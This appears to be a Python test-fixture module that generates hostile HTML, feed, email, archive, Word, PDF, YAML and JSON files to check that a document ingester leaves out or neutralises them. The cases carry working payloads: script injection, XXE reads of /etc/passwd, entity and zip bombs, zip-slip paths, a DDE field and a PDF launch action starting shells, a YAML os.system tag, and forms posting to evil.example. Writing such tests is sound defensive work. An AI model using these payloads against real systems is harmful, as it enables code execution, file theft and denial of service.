"""Hostile sources as a table: what each is called and holds, what comes of it, and what must not."""

from __future__ import annotations

import base64
import io
import json
import zipfile
import zlib
from collections.abc import Iterator
from dataclasses import dataclass
from typing import Final

from tests.sources.readers.test_docx import made as docx_of
from tests.sources.readers.test_docx import para
from tests.sources.readers.test_pdf import lines, paged, pdf_of, stream, text

SECRET: Final = "WITHHELD-BY-THE-MACHINE"
"""The content of a file outside the project; it must come to stand in nothing."""


@dataclass(frozen=True)
class Case:
    """One hostile file."""

    id: str
    file: str
    data: bytes
    problem: str = ""
    """Part of the line that says why it was left out; "" where it is read."""
    never: tuple[str, ...] = ()
    """What must stand in no document, as it is written here, in HTML."""


def body(word: str, more: str = "") -> str:
    return f"The minister of {word} said on Monday that aid had reached the {word} port after a week of talks.{more}"


def html(id: str, inside: str, *, head: str = "", never: tuple[str, ...] = (), problem: str = "") -> Case:
    word = _word(id)
    page = (
        f"<!doctype html><html lang=en><head><title>Talks at {word}</title>{head}</head><body><article>"
        f"<h1>Talks at {word}</h1><p>{body(word)} {inside}</p><p>The mayor of {word} denied that any aid had come to it."
        f"</p></article></body></html>"
    )
    return Case(id, f"{id}.html", page.encode(), problem, never)


def txt(
    id: str, inside: str, *, title: str = "", front: str = "", problem: str = "", never: tuple[str, ...] = ()
) -> Case:
    word = _word(id)
    page = f"{front}{title or f'Talks at {word}'}\n\n{body(word)} {inside}\n\nThe mayor of {word} denied it.\n"
    return Case(id, f"{id}.txt", page.encode("utf-8"), problem, never)


def _word(id: str) -> str:
    """A name that tells the case in a document."""
    return "".join(part.capitalize() for part in id.split("-"))


def page(target: str, bare: bool = False) -> str:
    return target if bare else f"file://{target}"


def cases(secret: str) -> list[Case]:
    """All; ``secret`` is the path of a file that none of them may reach."""
    return [
        *_html(secret), *_css(secret), *_svg(secret), *_unicode(), *_feeds(secret), *_mail(secret), *_zip(secret),
        *_docx(secret), *_pdf(secret), *_yaml(secret), *_json(),
    ]  # fmt: skip


def _html(secret: str) -> Iterator[Case]:
    yield html("html-script", "<script>alert('h1')</script>", never=("alert('h1')",))
    yield html("html-handler", '<img src=x onerror="alert(2)">', never=("onerror=",))
    yield html("html-link", '<a href="javascript:alert(3)">here</a>', never=('href="javascript',))
    yield html("html-frame", f'<iframe src="{page(secret)}"></iframe>', never=("<iframe", "file://"))
    yield html(
        "html-object",
        f'<object data="{page(secret)}"></object><embed src="{page(secret)}">',
        never=("<object", "<embed"),
    )
    yield html("html-image", '<img src="http://127.0.0.1:9/pixel.png">', never=("127.0.0.1:9",))
    yield html(
        "html-refresh",
        "",
        head='<meta http-equiv=refresh content="0;url=http://evil.example/r">',
        never=("http-equiv=refresh",),
    )
    yield html("html-base", "", head='<base href="http://evil.example/">', never=("<base",))
    yield html(
        "html-form", '<form action="http://evil.example/f"><input name=q></form>', never=("<form", "evil.example/f")
    )
    yield html("html-escaped", "&lt;script&gt;alert('h9')&lt;/script&gt;", never=("<script>alert('h9')",))
    yield html("html-double", "&amp;lt;script&amp;gt;alert('h10')", never=("<script>alert('h10')",))
    yield html("html-comment", "<!--><script>alert('h11')</script>-->", never=("<script>alert('h11')",))
    yield html(
        "html-noscript",
        "<noscript><p title=\"</noscript><img src=x onerror=alert('h12')>\"></noscript>",
        never=("<img src=x onerror=alert('h12')>",),
    )
    yield html(
        "html-mathml", "<math><mtext><table><mglyph><style><img src=x onerror=alert('h13')>", never=("<img src=x",)
    )
    yield html(
        "html-template", "{{ 7*7 }}{% include '/etc/passwd' %}{{ cycler.__init__.__globals__ }}", never=("root:x:",)
    )
    yield html("html-deep", "<div>" * 3000 + "deep" + "</div>" * 3000)
    yield html("html-attributes", f"<b {' '.join(f'a{n}=1' for n in range(5000))}>much</b>")
    yield html("html-entity", "", head="<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>", never=("root:x:",))
    yield html(
        "html-metadata",
        "",
        head="<meta name=author content=\"&lt;script&gt;alert('h19')&lt;/script&gt;\">",
        never=("<script>alert('h19')",),
    )
    yield html(
        "html-ld-json",
        "",
        head='<script type="application/ld+json">{"@type":"NewsArticle","headline":"</title><script>alert(\'h20\')"}</script>',
        never=("<script>alert('h20')",),
    )
    yield html(
        "html-attribute-break", "He said &quot;&gt;&lt;svg onload=alert('h21')&gt; was there.", never=("<svg onload",)
    )


def _css(secret: str) -> Iterator[Case]:
    yield html("css-import", "", head=f"<style>@import url({page(secret)});</style>", never=("@import url(file",))
    yield html("css-url", f'<span style="background:url({page(secret)})">x</span>', never=("background:url",))
    yield html("css-expression", "<style>p{width:expression(alert('c3'))}</style>", never=("alert('c3')",))
    yield html(
        "css-end", "&lt;/style&gt;&lt;script&gt;alert('c4')&lt;/script&gt;", never=("</style><script>alert('c4')",)
    )
    yield html("css-hidden", '<span style="display:none">paid for by nobody</span>')


def _svg(secret: str) -> Iterator[Case]:
    yield html("svg-script", "<svg><script>alert('s1')</script></svg>", never=("alert('s1')",))
    yield html("svg-use", f'<svg><use href="{page(secret)}#x"/></svg>', never=("<use",))
    yield html(
        "svg-foreign", "<svg><foreignObject><body onload=alert('s3')></foreignObject></svg>", never=("<body onload",)
    )
    inner = base64.b64encode(f"<svg><image href='{page(secret)}'/></svg>".encode()).decode()
    yield html("svg-data", f'<img src="data:image/svg+xml;base64,{inner}">')
    yield html("svg-bomb", "<svg>" + "<g>" * 2000 + "</g>" * 2000 + "</svg>")


def _unicode() -> Iterator[Case]:
    yield txt(
        "unicode-override",
        "He \u202eesrever\u202c wrote.",
        title="Talks \u202eTXT.EXE\u202c at UnicodeOverride",
        never=("\u202e",),
    )
    yield txt("unicode-isolates", "It \u2066was\u2069 so.", never=("\u2066",))
    yield txt("unicode-null", "A \x00 stands here.", never=("\x00",))
    yield txt(
        "unicode-escape",
        "A \x1b[31mred\x1b[0m line \x9b2J.",
        title="Talks \x1b]0;owned\x07 at UnicodeEscape",
        never=("\x1b", "\x9b"),
    )
    yield txt("unicode-separators", "One\u2028two\u2029three\u0085four.")
    yield txt("unicode-noncharacters", "A \ufffe and \uffff and \U0010ffff end.")
    yield txt("unicode-tags", "Hi\U000e0041\U000e0042\U000e007f there.")
    yield txt("unicode-marks", "Z" + "\u0301" * 5000 + "algo came.")
    yield txt("unicode-blanks", "wide\u3000\u2003\u200b\ufeff gaps.")
    yield txt("unicode-lookalikes", "\u0410dmin said that \u0440\u0430y\u0440al was down.")
    yield Case(
        "unicode-halves",
        "unicode-halves.txt",
        b"Talks at UnicodeHalves\n\n" + body("UnicodeHalves").encode() + b" \xed\xa0\x80\xed\xb0\x80\n",
    )
    yield Case("unicode-utf16", "unicode-utf16.txt", f"Talks\n\n{body('UnicodeUtf16')}\n".encode("utf-16"))
    yield Case(
        "unicode-utf7",
        "unicode-utf7.html",
        b"<meta charset=utf-7><p>+ADw-script+AD4-alert('u13')+ADw-/script+AD4- "
        + body("UnicodeUtf7").encode()
        + b"</p>",
        never=("<script>alert('u13')",),
    )
    yield txt("unicode-formula", "said so.", title='=HYPERLINK("http://evil.example","x")')
    yield txt("unicode-formula-at", "said so.", title="@SUM(1+1)*cmd|' /C calc'!A0")
    yield txt(
        "unicode-markdown",
        "![x](http://evil.example/p.png) [y](javascript:alert) <img src=x> `code` ~~no~~",
        never=("<img src=x>",),
    )


def _feeds(secret: str) -> Iterator[Case]:
    def feed(id: str, item: str, prolog: str = "", problem: str = "", never: tuple[str, ...] = ()) -> Case:
        word = _word(id)
        text = body(word) * 3
        data = (
            f"<?xml version='1.0'?>{prolog}<rss version='2.0'><channel><title>News</title><item><title>Talks at {word}</title>"
            f"<description>{text}{item}</description></item></channel></rss>"
        )
        return Case(id, f"{id}.rss", data.encode(), problem, never)

    bomb = (
        "<!DOCTYPE r [<!ENTITY a 'aaaaaaaaaa'>"
        + "".join(f"<!ENTITY {c} '{f'&{p};' * 10}'>" for p, c in zip("abcdefgh", "bcdefghi", strict=True))
        + "]>"
    )
    yield feed("feed-bomb", "&i;", bomb, never=("a" * 1000,))
    yield feed("feed-entity", "&x;", f"<!DOCTYPE r [<!ENTITY x SYSTEM '{page(secret)}'>]>")
    yield feed("feed-parameter", "", "<!DOCTYPE r [<!ENTITY % p SYSTEM 'http://127.0.0.1:9/x.dtd'> %p;]>")
    yield feed("feed-dtd", "", "<!DOCTYPE r SYSTEM 'http://127.0.0.1:9/r.dtd'>")
    yield feed("feed-script", "&lt;script&gt;alert('f5')&lt;/script&gt;", never=("alert('f5')",))
    yield feed("feed-cdata", "<![CDATA[<img src=x onerror=alert('f6')>]]>", never=("onerror=",))
    yield feed(
        "feed-include", f"<xi:include xmlns:xi='http://www.w3.org/2001/XInclude' href='{page(secret)}' parse='text'/>"
    )
    yield feed("feed-style", "<?xml-stylesheet href='http://127.0.0.1:9/s.xsl' type='text/xsl'?>")
    yield Case(
        "feed-link",
        "feed-link.atom",
        f"<feed xmlns='http://www.w3.org/2005/Atom'><title>N</title><entry><title>Talks at FeedLink</title><link href='javascript:alert(9)'/><content type='html'>{body('FeedLink') * 3}</content></entry></feed>".encode(),
        never=('href="javascript',),
    )


def _mail(secret: str) -> Iterator[Case]:
    def mail(id: str, headers: str = "", content: str = "", problem: str = "", never: tuple[str, ...] = ()) -> Case:
        word = _word(id)
        text = f"From: Desk <desk@example.org>\nSubject: Talks at {word}\nDate: Tue, 2 Jun 2026 10:00:00 +0000\n{headers}\n{content or body(word)}\n"
        return Case(id, f"{id}.eml", text.encode(), problem, never)

    def attached(id: str, name: str, data: bytes, kind: str = "text/plain") -> Case:
        encoded = base64.b64encode(data).decode()
        part = f'--b\nContent-Type: {kind}\nContent-Disposition: attachment; filename="{name}"\nContent-Transfer-Encoding: base64\n\n{encoded}\n'
        content = f"--b\nContent-Type: text/plain\n\n{body(_word(id))}\n\n{part}--b--"
        return mail(id, "MIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=b\n", content)

    yield attached("mail-upwards", "../../../escaped.txt", body("MailUpwardsInside").encode())
    yield attached("mail-absolute", "/tmp/escaped.txt", body("MailAbsoluteInside").encode())
    yield attached("mail-drive", "C:\\\\Windows\\\\escaped.txt", body("MailDriveInside").encode())
    yield attached("mail-controls", "a\x1b[31mb.txt", body("MailControlsInside").encode())
    yield attached("mail-program", "run.exe", b"MZ\x90\x00")
    yield mail(
        "mail-external",
        'MIME-Version: 1.0\nContent-Type: message/external-body; access-type=local-file; name="/etc/passwd"\n',
        "x\n",
        problem="",
        never=("root:x:",),
    )
    yield mail(
        "mail-html",
        "MIME-Version: 1.0\nContent-Type: text/html\n",
        f"<p>{body('MailHtml')}</p><script>alert('m7')</script><img src='cid:x' onerror=alert(1)>",
        never=("alert('m7')", "onerror="),
    )
    yield mail(
        "mail-subject",
        "X-A: 1\nSubject: =?utf-8?q?Talks_=1B[31m_<script>alert('m8')</script>?=\n",
        never=("<script>alert('m8')",),
    )
    nested = "".join(f"--b{n}\nContent-Type: multipart/mixed; boundary=b{n + 1}\n\n" for n in range(200))
    yield mail("mail-nested", "MIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=b0\n", nested)
    yield mail(
        "mail-encoding",
        'MIME-Version: 1.0\nContent-Type: text/plain; charset="../../etc/passwd"\nContent-Transfer-Encoding: x-uuencode\n',
        body("MailEncoding"),
    )


def _zip(secret: str) -> Iterator[Case]:
    def packed(id: str, entries: list[tuple[str | zipfile.ZipInfo, bytes]], problem: str = "", **options: int) -> Case:
        made = io.BytesIO()
        with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as archive:
            for name, data in entries:
                archive.writestr(name, data)
        return Case(id, f"{id}.zip", made.getvalue(), problem)

    link = zipfile.ZipInfo("link.txt")
    link.external_attr = 0o120777 << 16
    yield packed("zip-upwards", [("../../escaped.txt", body("ZipUpwards").encode())])
    yield packed("zip-absolute", [("/tmp/escaped.txt", body("ZipAbsolute").encode())])
    yield packed("zip-backslash", [("..\\..\\escaped.txt", body("ZipBackslash").encode())])
    yield packed("zip-link", [(link, secret.encode()), ("a.txt", body("ZipLink").encode())], "a link to another file")
    yield packed("zip-bomb", [("a.txt", b"a" * 30_000_000)], "more than")
    yield packed("zip-many", [(f"{n}.txt", b"x") for n in range(300)], "more than 200 ('limits.entries')")
    yield packed(
        "zip-nested", [("a.zip", _zipped(_zipped(_zipped(_zipped(body("ZipNested").encode())))))], "files within files"
    )
    yield packed("zip-name", [("a\x1b[31m\u202etxt.txt", body("ZipName").encode())])
    whole = packed("zip-cut", [("a.txt", body("ZipCut").encode())])
    yield Case("zip-cut", "zip-cut.zip", whole.data[:-30], "damaged, cut short")
    yield Case("zip-quine", "zip-quine.zip", whole.data[:4] + b"\xff" * 60 + whole.data[4:], "")


def _zipped(data: bytes) -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w") as archive:
        archive.writestr("a.zip" if data.startswith(b"PK") else "a.txt", data)
    return made.getvalue()


def _docx(secret: str) -> Iterator[Case]:
    def word(id: str, inside: str = "", problem: str = "", never: tuple[str, ...] = (), **options: object) -> Case:
        name = _word(id)
        data = docx_of(para(f"Talks at {name}", "Title") + para(body(name)) + inside, **options)  # type: ignore[arg-type]
        return Case(id, f"{id}.docx", data, problem, never)

    field = '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    yield word("docx-dde", field, never=("DDEAUTO c:",))
    yield word("docx-dde-text", para("DDEAUTO cmd said the minister of DocxDdeText on Monday in the port."))
    yield word("docx-entity", para("&amp;x;"), prolog=f"<!DOCTYPE x [<!ENTITY x SYSTEM '{page(secret)}'>]>", problem="")
    yield word(
        "docx-include",
        f'<w:p><w:fldSimple w:instr="INCLUDETEXT {secret}"><w:r><w:t>shown</w:t></w:r></w:fldSimple></w:p>',
        never=("INCLUDETEXT",),
    )
    yield word(
        "docx-target",
        parts={
            "word/_rels/settings.xml.rels": '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://127.0.0.1:9/t.dotm" TargetMode="External"/></Relationships>'
        },
        never=("127.0.0.1:9",),
    )
    yield word("docx-macro", parts={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0" + b"\x00" * 100})
    yield word("docx-deep", "<w:sdt><w:sdtContent>" * 900 + para("deep") + "</w:sdtContent></w:sdt>" * 900)


def _pdf(secret: str) -> Iterator[Case]:
    def pdf(
        id: str, extra: bytes = b"", problem: str = "", more: tuple[bytes, ...] = (), never: tuple[str, ...] = ()
    ) -> Case:
        name = _word(id)
        content = text(f"Talks at {name}", y=550, size=20) + lines(
            f"The minister of {name} said on Monday that aid", f"had reached the {name} port after a week."
        )
        return Case(id, f"{id}.pdf", paged(content, page=extra, more=more), problem, never)

    yield pdf("pdf-script", b"/AA<</O<</S/JavaScript/JS(app.alert\\(1\\))>>>>", never=("app.alert",))
    yield pdf("pdf-launch", b"/AA<</O<</S/Launch/F(/bin/sh)>>>>", never=("/bin/sh",))
    yield pdf("pdf-file", more=(b"<</Type/Filespec/F(%s)>>" % secret.encode(),))
    yield pdf(
        "pdf-link",
        b"/Annots[<</Subtype/Link/Rect[0 0 9 9]/A<</S/URI/URI(http://127.0.0.1:9/x)>>>>]",
        never=("127.0.0.1:9",),
    )
    yield Case(
        "pdf-bomb",
        "pdf-bomb.pdf",
        paged(stream(zlib.compress(zlib.compress(b"0 " * 40_000_000)), b"/Filter[/FlateDecode/FlateDecode]")),
        "pdf-bomb",
    )
    yield Case(
        "pdf-loop",
        "pdf-loop.pdf",
        pdf_of([b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[2 0 R 2 0 R]/Count 2>>"]),
        "pdf-loop",
    )
    yield Case("pdf-cut", "pdf-cut.pdf", paged(text("Talks"))[:200], "pdf-cut")
    yield Case(
        "pdf-length",
        "pdf-length.pdf",
        b"%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj trailer<</Root 1 0 R/Size 999999999>>",
        "pdf-length",
    )
    yield Case("pdf-nested", "pdf-nested.pdf", b"%PDF-1.7\n1 0 obj" + b"[" * 50_000 + b"endobj", "pdf-nested")


def _yaml(secret: str) -> Iterator[Case]:
    levels = "".join(f"a{n}: &a{n} [{', '.join([f'*a{n - 1}'] * 9)}]\n" for n in range(1, 6))
    bomb = f"---\na0: &a0 [{', '.join('x' * 9)}]\n{levels}---\n"
    yield txt("yaml-bomb", "x", front=bomb, problem="stands for more than")
    yield txt("yaml-tag", "x", front="---\ntitle: !!python/object/apply:os.system [id]\n---\n", problem="a tag")
    yield txt("yaml-binary", "x", front="---\ntitle: !!binary aGVsbG8=\n---\n", problem="a tag")
    yield txt("yaml-twice", "x", front="---\ntitle: a\ntitle: b\n---\n", problem="is given twice")
    yield txt("yaml-deep", "x", front=f"---\ntitle: {'[' * 5000}\n---\n", problem="within one another")
    yield txt("yaml-self", "x", front="---\nmore: &a [*a]\n---\n", problem="stands inside")
    yield txt("yaml-half", "x", front='---\ntitle: "Talks \\ud800"\n---\n', problem="half a character")
    yield txt("yaml-escape", "x", front='---\ntitle: "Talks \\e[31m YamlEscape"\n---\n', never=("\x1b",))
    yield txt("yaml-number", "x", front=f"---\nid: {'9' * 6000}\n---\n", problem="front matter is not YAML")
    yield txt("yaml-huge", "x", front=f"---\ntitle: {'x' * 30_000}\n---\n", problem="longer than")


def _json() -> Iterator[Case]:
    def rows(id: str, row: dict[str, object] | str, problem: str = "", never: tuple[str, ...] = ()) -> Case:
        text = row if isinstance(row, str) else json.dumps({"text": body(_word(id)) + " So it was said.", **row})
        return Case(id, f"{id}.jsonl", text.encode(), problem, never)

    yield rows("json-halves", {"title": "Talks \ud83d at \udc00 JsonHalves"})
    yield rows("json-id", {"id": "../../../etc/passwd"})
    yield rows("json-url", {"url": "javascript:alert(1)"}, never=('href="javascript',))
    yield rows("json-deep", "[" * 100_000, "json-deep")
    yield rows("json-number", '{"text": ' + "9" * 10_000 + "}", "json-number")
    yield rows("json-prototype", {"__proto__": {"x": 1}, "constructor": "x"})
    yield rows("json-publisher", {"publisher": "</script><script>alert('j7')</script>"}, never=("<script>alert('j7')",))
